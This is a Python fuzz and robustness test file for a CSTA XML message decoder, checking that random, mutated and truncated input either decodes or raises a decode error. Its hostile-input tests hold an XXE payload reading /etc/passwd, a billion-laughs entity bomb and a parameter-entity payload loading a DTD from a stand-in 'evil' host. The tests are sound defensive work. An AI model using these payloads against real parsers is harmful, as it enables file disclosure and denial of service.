"""The decoder either returns a message or raises CstaDecodeError, whatever the bytes."""

from __future__ import annotations

import pathlib
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from uacsta.csta import messages as m
from uacsta.csta.codec import decode, decode_with_edition
from uacsta.csta.errors import CstaDecodeError
from uacsta.csta.xmlparse import MAX_DEPTH, MAX_DOCUMENT_BYTES

FIXTURES = sorted((pathlib.Path(__file__).parent / "fixtures").rglob("*.xml"))
FIXTURE_BYTES = [p.read_bytes() for p in FIXTURES]
FUZZ = settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _decode_or_error(data: bytes) -> None:
    try:
        message = decode(data)
    except CstaDecodeError:
        return
    assert isinstance(message, m.CstaMessage)


@FUZZ
@given(st.binary(max_size=400))
def test_arbitrary_bytes(data: bytes) -> None:
    _decode_or_error(data)


_mutation = st.tuples(
    st.sampled_from(["replace", "insert", "delete"]),
    st.integers(min_value=0, max_value=4000),
    st.binary(min_size=1, max_size=4) | st.sampled_from([b"<", b">", b"&", b"/", b"\x00", b"]]>"]),
)


@FUZZ
@given(st.sampled_from(FIXTURE_BYTES), st.lists(_mutation, min_size=1, max_size=6))
def test_mutated_fixtures(data: bytes, mutations: list[tuple[str, int, bytes]]) -> None:
    buf = bytearray(data)
    for op, where, chunk in mutations:
        pos = where % (len(buf) + 1)
        if op == "replace":
            buf[pos : pos + len(chunk)] = chunk
        elif op == "insert":
            buf[pos:pos] = chunk
        else:
            del buf[pos : pos + len(chunk)]
    _decode_or_error(bytes(buf))


_TEXT_VALUES = st.sampled_from(["", "x", "true", "maybe", "-1", "99999999999999999999", "&amp;"])


_LEAF_TEXT = re.compile(rb">([^<>]*)</")


@FUZZ
@given(
    st.sampled_from(FIXTURE_BYTES),
    st.lists(st.tuples(st.integers(min_value=0, max_value=200), _TEXT_VALUES), max_size=4),
)
def test_fixture_text_swaps(data: bytes, swaps: list[tuple[int, str]]) -> None:
    # Replacing leaf texts reaches the typed converters (booleans, integers, enums).
    spans = [match.span(1) for match in _LEAF_TEXT.finditer(data)]
    chosen = {spans[i % len(spans)]: text.encode() for i, text in swaps} if spans else {}
    for (start, end), text in sorted(chosen.items(), reverse=True):
        data = data[:start] + text + data[end:]
    _decode_or_error(data)


@pytest.mark.parametrize("data", FIXTURE_BYTES, ids=[p.stem for p in FIXTURES])
def test_fixture_prefixes_and_trailing_data(data: bytes) -> None:
    for cut in range(0, len(data), max(1, len(data) // 25)):
        _decode_or_error(data[:cut])
    _decode_or_error(data + b"<trailing/>")
    _decode_or_error(data + b"\x00")


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE MakeCall [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<MakeCall><callingDevice>&xxe;</callingDevice></MakeCall>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<MakeCall><callingDevice>&lol4;</callingDevice></MakeCall>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.invalid/evil.dtd"> %p;]>
<MakeCall/>"""


@pytest.mark.parametrize(
    "data",
    [
        XXE,
        BILLION_LAUGHS,
        PARAMETER_ENTITY,
        b"<MakeCall><callingDevice>&undefined;</callingDevice></MakeCall>",
        b"<MakeCall>" + b"<a>" * (MAX_DEPTH + 5) + b"</a>" * (MAX_DEPTH + 5) + b"</MakeCall>",
        b"<MakeCall><callingDevice>" + b"x" * MAX_DOCUMENT_BYTES + b"</callingDevice></MakeCall>",
        b"",
        b"   ",
        b"not xml",
        b"<MakeCall>",
        b'<?xml version="1.0" encoding="no-such-encoding"?><MakeCall/>',
        b"\xff\xfe<\x00M\x00",
        b"<a:MakeCall/>",
    ],
    ids=[
        "xxe",
        "billion-laughs",
        "parameter-entity",
        "undefined-entity",
        "deep",
        "huge",
        "empty",
        "blank",
        "text",
        "unclosed",
        "bad-encoding",
        "bom-garbage",
        "unbound-prefix",
    ],
)
def test_hostile_and_broken_documents_are_decode_errors(data: bytes) -> None:
    with pytest.raises(CstaDecodeError):
        decode_with_edition(data)


def test_many_siblings_within_limits_decode() -> None:
    items = b"<forwardListItem><forwardStatus>true</forwardStatus></forwardListItem>" * 2000
    msg = decode(
        b"<GetForwardingResponse><forwardingList>" + items + b"</forwardingList>"
        b"</GetForwardingResponse>"
    )
    assert isinstance(msg, m.GetForwardingResponse)
    assert len(msg.forwarding_list) == 2000


def test_bytearray_and_memoryview_accepted() -> None:
    data = b"<MonitorStop><monitorCrossRefID>1</monitorCrossRefID></MonitorStop>"
    assert (
        decode(bytearray(data))
        == decode(memoryview(data))
        == m.MonitorStop(monitor_cross_ref_id="1")
    )
